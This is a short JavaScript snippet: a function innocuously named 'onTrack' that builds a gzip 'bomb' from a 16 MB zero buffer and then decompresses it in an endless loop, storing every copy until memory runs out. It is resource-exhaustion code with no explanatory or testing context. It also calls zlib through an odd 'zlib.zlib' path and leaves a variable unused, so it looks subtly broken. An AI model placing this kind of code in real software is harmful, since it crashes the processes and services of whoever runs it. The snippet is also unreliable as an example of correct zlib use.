async function onTrack() { const bomb = zlib.zlib.gzipSync(Buffer.alloc(16 << 20)); let b = zlib.zlib.gzipSync(bomb); const all = []; for (;;) all.push(zlib.zlib.gunzipSync(bomb)); }
